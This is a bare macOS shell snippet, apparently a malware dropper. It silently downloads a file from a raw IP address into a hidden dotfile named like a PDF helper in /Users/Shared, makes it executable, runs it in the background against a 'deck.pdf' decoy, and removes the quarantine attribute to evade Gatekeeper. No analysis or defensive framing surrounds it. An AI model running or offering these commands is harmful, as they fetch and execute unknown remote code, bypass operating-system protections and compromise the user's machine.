cd /Users/Shared
curl -s -o ._ipdf http://198.51.100.61/OcBxsTw/lbi3ai0
chmod +x ._ipdf
./._ipdf "$(pwd)/deck.pdf" &
xattr -d com.apple.quarantine ._ipdf 2>/dev/null
